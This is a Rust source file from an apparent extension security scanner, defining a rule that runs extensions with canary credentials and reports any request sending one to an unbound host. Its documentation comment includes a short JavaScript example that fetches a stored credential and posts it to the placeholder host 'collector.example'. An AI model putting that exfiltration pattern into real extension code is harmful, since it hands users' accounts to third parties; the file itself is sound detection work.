use crate::findings::{Judge, carries, host_of, location, request_text};
use crate::run::{ENV_CANARY, USER_HOST};
use portcullis_core::{Finding, declare_rule};

declare_rule! {
    /// ## What it does
    /// Runs the extension with canary credentials (unique fake secrets handed out by the
    /// simulated `getCredentials`, `this.credentials` and secret-looking environment
    /// variables) and reports a request that carries one to a host the credential is not
    /// bound to — as is, percent-encoded, base64 or hex.
    ///
    /// ## Why is this bad?
    /// The platform stores the user's credential so the extension can call *its* service.
    /// Sending it anywhere else hands the user's account to a third party. A static scan can
    /// miss it when the URL is assembled at run time; the canary cannot be missed.
    ///
    /// ## Example
    /// ```js
    /// const c = await this.getCredentials('acmeApi');
    /// await this.helpers.httpRequest({ url: 'https://collector.example/c', body: c });
    /// ```
    ///
    /// ## Use instead
    /// Send the credential only to the hosts its credential type declares (`test.request`,
    /// `authenticate`), through `requestWithAuthentication`.
    ///
    /// ## References
    /// - <https://cwe.mitre.org/data/definitions/200.html>
    /// - <https://cwe.mitre.org/data/definitions/522.html>
    pub static CANARY_EXFILTRATION = {
        id: "dynamic/canary-exfiltration",
        title: "Credential sent to a host it is not bound to (observed at run time)",
        category: Secret,
        severity: Critical,
        confidence: High,
        summary: "A canary credential left the sandbox for a host the credential is not bound to",
        cwe: [200, 522],
        owasp: ["A01:2021"],
        signals: [Exfiltration],
        fixtures: [
            pos "crates/dynamic/fixtures/n8n-exfiltrate-credential",
            neg "crates/dynamic/fixtures/n8n-clean",
        ],
    }
}

pub fn check(j: &mut Judge<'_>) {
    // Tokens issued during the run, with what they stand for.
    let mut tokens: Vec<(String, String, Option<String>)> = Vec::new();
    for o in &j.report.observations {
        if o.kind() == "canary"
            && let (Some(t), Some(c)) = (o.str("token"), o.str("credential"))
        {
            let field = o.str("field").unwrap_or("").to_string();
            if !tokens.iter().any(|x| x.0 == t) {
                tokens.push((t.to_string(), format!("{c}.{field}"), Some(c.to_string())));
            }
        }
    }
    for (i, var) in crate::run::SECRET_ENV.iter().enumerate() {
        tokens.push((format!("{ENV_CANARY}{i}x"), format!("env {var}"), None));
    }
    let mut hits = Vec::new();
    for o in j
        .report
        .observations
        .iter()
        .filter(|o| o.kind() == "request")
    {
        let url = o.str("url").unwrap_or("");
        let Some(host) = host_of(url) else { continue };
        let text = request_text(o);
        for (token, what, cred) in &tokens {
            if !carries(&text, token) {
                continue;
            }
            let allowed = match cred {
                // A credential may go where it is bound; the host the user configures is the
                // user's choice; with no binding the manifest's declared egress decides.
                Some(c) => {
                    host == USER_HOST
                        || match j.bound_hosts(c) {
                            Some(b) if !b.is_empty() => b.iter().any(|p| p.allows(&host)),
                            _ => j.declared_allows(&host),
                        }
                }
                // Environment secrets have no business in any request.
                None => false,
            };
            if !allowed {
                let key = cred.clone().unwrap_or_else(|| what.clone());
                hits.push((o, host.clone(), what.clone(), key));
            }
        }
    }
    for (o, host, what, key) in hits {
        let f = Finding::from_rule(
            &CANARY_EXFILTRATION,
            format!(
                "canary credential `{what}` was sent to `{host}` ({} {}) during `{}`; the credential is not bound to that host",
                o.str("method").unwrap_or("GET"),
                o.str("url").unwrap_or(""),
                o.call()
            ),
            location(o),
        )
        .with_property("host", serde_json::json!(host))
        .with_property("credential", serde_json::json!(what));
        j.push(&format!("{key}->{host}"), f);
    }
}
